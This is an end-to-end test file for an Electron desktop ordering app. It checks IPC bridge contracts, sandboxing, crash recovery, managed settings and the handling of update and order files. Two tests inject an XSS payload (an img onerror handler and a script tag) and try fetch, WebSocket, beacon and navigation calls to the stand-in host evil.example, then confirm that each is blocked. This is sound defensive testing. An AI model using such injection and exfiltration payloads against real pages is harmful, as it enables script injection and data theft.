import { copyFile, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright";
import { afterAll, beforeAll, expect, test } from "vitest";
import { channels } from "#channels";
import { type DesktopApp, launchDesktop } from "../../support/desktop-app.ts";
import { editorPage } from "../../support/pages/editor-page.ts";
import { ordersPage } from "../../support/pages/orders-page.ts";
import { wordsOf } from "../../support/pages/words.ts";

interface PageDesk {
  readonly call: Readonly<
    Record<string, Readonly<Record<string, (input: unknown) => Promise<unknown>>>>
  >;
  readonly onCommand: (listener: (command: unknown) => void) => () => void;
}

const unsignedUpdate = {
  schema: "h200-desk/update@1",
  version: "9.0.0",
  issued: "2026-12-01",
  notes: { zh: "", en: "" },
  files: [{ name: "a.exe", system: "win32", arch: "x64", bytes: 1, sha256: "0".repeat(64) }],
};

let app: DesktopApp;
beforeAll(async () => {
  app = await launchDesktop({ lang: "en" });
  await app.page.waitForFunction(() => document.getElementById("root")?.hasChildNodes());
});
afterAll(async () => {
  await app?.close();
});

const callOn = async (page: Page, group: string, name: string, input: unknown) =>
  await page.evaluate(
    async ([g, n, i]) => {
      const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
      return (await bridge.call[String(g)]?.[String(n)]?.(i)) as {
        ok: boolean;
        value?: unknown;
        error?: { code: string };
      };
    },
    [group, name, input] as const,
  );
const call = async (group: string, name: string, input: unknown) =>
  await callOn(app.page, group, name, input);

test("the page gets exactly the contract's names and one stream of commands", async () => {
  const seen = await app.page.evaluate(() => {
    const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
    return [
      Object.keys(bridge).sort(),
      Object.fromEntries(
        Object.entries(bridge.call).map(([group, names]) => [group, Object.keys(names)]),
      ),
    ];
  });
  expect(seen).toEqual([["call", "onCommand"], channels]);
});

test("a call reaches the desk and the desk knows it is in Electron", async () => {
  expect(await call("host", "info", {})).toMatchObject({ ok: true, value: { kind: "electron" } });
});

test("input of another shape is refused at the border, with its place", async () => {
  expect(await call("orders", "get", { id: 7 })).toMatchObject({
    ok: false,
    error: { code: "bad-input" },
  });
});

test.each(["child-frame", "gone-frame", "other-origin", "look-alike", "other-window"])(
  "a message from %s is refused on every channel",
  async (from) => {
    for (const [group, names] of Object.entries(channels)) {
      for (const name of names) {
        const reply = await app.forge(`desk:${group}.${name}`, from, {});
        expect(reply).toMatchObject({ ok: false, error: { code: "foreign-sender" } });
      }
    }
  },
);

test("the same message from the page's own frame is heard, so the refusals mean something", async () => {
  expect(await app.forge("desk:host.info", "own-frame", {})).toMatchObject({ ok: true });
});

test("the window is sandboxed, isolated, without Node and without spell-check", async () => {
  const events = await app.events();
  const options = events.find(([what]) => what === "window")?.[1];
  expect(options).toMatchObject({
    show: false,
    webPreferences: {
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webviewTag: false,
      spellcheck: false,
      webSecurity: true,
    },
  });
  expect(events.map(([what]) => what)).toEqual(
    expect.arrayContaining([
      "enableSandbox",
      "setPermissionRequestHandler",
      "setPermissionCheckHandler",
      "setDevicePermissionHandler",
      "setDisplayMediaRequestHandler",
    ]),
  );
  expect(events).toContainEqual(["setSpellCheckerEnabled", false]);
});

test("text that is made to run as code does not, and no request leaves the page", async () => {
  const hostile =
    '<img src="https://evil.example/x.png" onerror="window.hacked = 1"><script>window.hacked = 1</script>';
  const tried = await app.page.evaluate(async (markup) => {
    // DevTools lifts the ban on code from text while it evaluates: go on in a task of the page's own.
    await new Promise((resolve) => setTimeout(resolve));
    const outcomes: string[] = [];
    const attempt = async (name: string, work: () => unknown) => {
      try {
        await work();
        outcomes.push(`${name}: ran`);
      } catch {
        outcomes.push(`${name}: refused`);
      }
    };
    await attempt("markup", () => document.body.insertAdjacentHTML("beforeend", markup));
    await attempt("code", () => new Function("return 1")());
    await attempt("script", () => {
      const script = document.createElement("script");
      script.textContent = "window.hacked = 1";
      document.body.append(script);
    });
    await attempt("fetch", () => fetch("https://evil.example/"));
    await attempt("own fetch", () => fetch("/index.html"));
    await attempt(
      "socket",
      () =>
        new Promise((ok, no) => {
          const socket = new WebSocket("wss://evil.example/");
          socket.onopen = ok;
          socket.onerror = no;
        }),
    );
    await attempt("worker", () => new Worker("data:text/javascript,1"));
    outcomes.push(`beacon: ${navigator.sendBeacon("https://evil.example/", "x")}`);
    return [outcomes, (globalThis as { hacked?: number }).hacked ?? "nothing ran"];
  }, hostile);
  expect(tried[1]).toBe("nothing ran");
  expect(tried[0]).toEqual(
    expect.arrayContaining([
      "markup: refused",
      "code: refused",
      "script: refused",
      "fetch: refused",
      "socket: refused",
    ]),
  );
  expect((await app.events()).filter(([what]) => what === "left-the-page")).toEqual([]);
});

test("the page cannot be led away, and opens no window", async () => {
  const before = app.page.url();
  await app.page.evaluate(() => {
    location.href = "https://evil.example/";
    window.open("https://evil.example/");
    const form = document.createElement("form");
    form.action = "https://evil.example/";
    document.body.append(form);
    form.submit();
  });
  await expect
    .poll(async () => (await app.events()).filter(([what]) => what === "popup").length)
    .toBe(1);
  expect(app.page.url()).toBe(before);
});

test("the menu speaks the language asked for, and its commands reach the page", async () => {
  expect(JSON.stringify(await app.menu())).toContain("New order");
  await app.page.evaluate(() => {
    const { desk: bridge } = globalThis as unknown as { desk: PageDesk };
    bridge.onCommand((command) =>
      document.body.setAttribute("data-command", JSON.stringify(command)),
    );
  });
  await app.press("Go", "Parties");
  await expect
    .poll(async () => await app.page.locator("body").getAttribute("data-command"))
    .toBe('{"kind":"go","to":"parties"}');
});

test("changing the language in the settings changes the menu", async () => {
  const before = await call("settings", "get", {});
  const settings = before.value as Record<string, unknown>;
  expect(await call("settings", "save", { ...settings, language: "zh" })).toMatchObject({
    ok: true,
  });
  await expect.poll(async () => JSON.stringify(await app.menu())).toContain("新建采购单");
});

test("diagnostics show every line before anything is written, and hold no data", async () => {
  await app.page.goto(`${app.page.url().split("#")[0]}#/about/diagnostics`);
  const box = app.page.getByRole("textbox", { name: "将保存的内容" });
  await expect.poll(async () => await box.inputValue()).toContain("H200 Desk");
  const shown = await box.inputValue();
  expect(shown).toMatch(/refused: .*message \d+/);
  expect(shown).not.toContain(app.workspace);
  const filePath = join(app.userData, "diagnostics.txt");
  await app.answerDialog("showSaveDialog", { canceled: false, filePath });
  await app.page.getByRole("button", { name: "保存为文件…" }).click();
  await expect.poll(async () => await readFile(filePath, "utf8").catch(() => "")).toBe(shown);
});

test("an update file that somebody put in place is judged where it lies, and nothing is started", async () => {
  await mkdir(join(app.userData, "updates"), { recursive: true });
  await writeFile(join(app.userData, "updates", "a.h200update"), "not an update");
  await app.page.goto(`${app.page.url().split("#")[0]}#/about/updates`);
  await app.page.getByText("a.h200update 不是本程序能读的更新文件").waitFor();
  const chosen = join(app.userData, "unsigned.h200update");
  await writeFile(chosen, JSON.stringify(unsignedUpdate));
  await app.answerDialog("showOpenDialog", { canceled: false, filePaths: [chosen] });
  await app.page.getByRole("button", { name: "选择更新文件…" }).click();
  await app.page.getByText("没有签名", { exact: true }).waitFor();
});

test("quitting releases the workspace and ends with code 0", async () => {
  expect(await app.quit()).toBe(0);
});

test("a page that stops while somebody types comes back with the last words, the unfinished ones too", async () => {
  const own = await launchDesktop({ lang: "zh" });
  const { page } = own;
  try {
    await ordersPage(page, wordsOf("zh")).create("崩溃试验");
    const title = page.getByLabel("名称", { exact: true });
    const editor = editorPage(page, wordsOf("zh"));
    const field = editor.field("order.reference").locator("input");
    await field.fill("最后的几个字");
    // An order without a name is not saved: however slow the machine, these edits are in no file when the page stops.
    await title.fill("");
    const held = async () => {
      const order = /orders\/(ord_[^/]+)/.exec(page.url())?.[1];
      return JSON.stringify(await callOn(page, "drafts", "held", { id: order, page: "another" }));
    };
    await expect.poll(held, { interval: 10 }).toMatch(/^(?!.*崩溃试验).*最后的几个字/);
    await own.answerDialog("showMessageBox", { response: 0 });
    await own.crash();
    await page.getByText("已恢复界面停止前尚未保存的修改").waitFor();
    expect(await field.inputValue()).toBe("最后的几个字");
    expect(await title.inputValue()).toBe("");
    await title.fill("又有名称");
    await editor.saved();
  } finally {
    await own.close();
  }
});

test("rules of the firm are kept and shown; a file of rules that cannot be read stops the start", async () => {
  const folder = await mkdtemp(join(tmpdir(), "desk-managed-"));
  const file = join(folder, "managed.json");
  const workspace = join(folder, "set by IT");
  await writeFile(
    file,
    JSON.stringify({ schema: "h200-desk/managed@1", workspace, language: "en" }),
  );
  const ruled = await launchDesktop({ lang: "en", args: [`--managed=${file}`] });
  try {
    await ruled.page.waitForFunction(() => document.getElementById("root")?.hasChildNodes());
    await ruled.page.goto(`${ruled.page.url().split("#")[0]}#/about`);
    await ruled.page.getByText("Set by your IT department").waitFor();
    await ruled.page.getByText(workspace).waitFor();
  } finally {
    await ruled.close();
  }
  await writeFile(file, "{");
  await expect(launchDesktop({ args: [`--managed=${file}`] })).rejects.toThrow(/ended|in vain/);
  await rm(folder, { recursive: true, force: true });
});

test("an order file that the system hands over at the start is shown, and taken in when a person says so", async () => {
  const folder = await mkdtemp(join(tmpdir(), "desk-open-"));
  const path = join(folder, "order.h200order");
  await copyFile(new URL("../../../examples/private-start-up.json", import.meta.url), path);
  const second = await launchDesktop({ lang: "en", args: [path] });
  try {
    const dialog = second.page.getByRole("dialog");
    await dialog.getByText(/尚未导入任何内容|Nothing has been imported yet/).waitFor();
    expect(second.page.url()).not.toContain("orders/ord");
    await dialog.getByRole("button", { name: /^(导入|Import)$/ }).click();
    await expect.poll(() => second.page.url()).toContain("orders/ord");
  } finally {
    await second.close();
    await rm(folder, { recursive: true, force: true });
  }
});

test("an order that differs from the books, and a pack that nobody signed, are asked about in the page", async () => {
  const folder = await mkdtemp(join(tmpdir(), "desk-open-"));
  const order = join(folder, "same product.h200order");
  const pack = join(folder, "unknown.h200pack");
  const example = await readFile(
    new URL("../../../examples/private-start-up.json", import.meta.url),
    "utf8",
  );
  await writeFile(order, example);
  await writeFile(pack, "{}");
  const second = await launchDesktop({ lang: "zh", args: [order] });
  const take = () =>
    second.page
      .getByRole("dialog")
      .getByRole("button", { name: /^(导入|Import)$/ })
      .click();
  try {
    await take();
    await expect.poll(() => second.page.url()).toContain("orders/ord");
    await writeFile(order, example.replace(/"title": "[^"]*"/, '"title": "别的"'));
    await second.answerDialog("showOpenDialog", { canceled: false, filePaths: [order] });
    await second.press("文件", "打开文件…");
    await take();
    await second.page.getByRole("dialog").getByText("文件与本机资料不一致").waitFor();
    await second.page.keyboard.press("Escape");
    await second.answerDialog("showOpenDialog", { canceled: false, filePaths: [pack] });
    await second.press("文件", "打开文件…");
    await expect.poll(() => second.page.url()).toContain("rules/packs");
    await second.page.getByRole("alert").waitFor();
  } finally {
    await second.close();
    await rm(folder, { recursive: true, force: true });
  }
});

test("a file that is no order is refused in one sentence, and nothing is taken in", async () => {
  const folder = await mkdtemp(join(tmpdir(), "desk-open-"));
  const path = join(folder, "broken.h200order");
  await writeFile(path, '{"schema": "other"}');
  const second = await launchDesktop({ lang: "en", args: [path] });
  try {
    const alert = second.page.getByRole("alert");
    await alert.waitFor();
    expect(await alert.textContent()).not.toContain(folder);
    expect(second.page.url()).not.toContain("orders/ord");
  } finally {
    await second.close();
    await rm(folder, { recursive: true, force: true });
  }
});
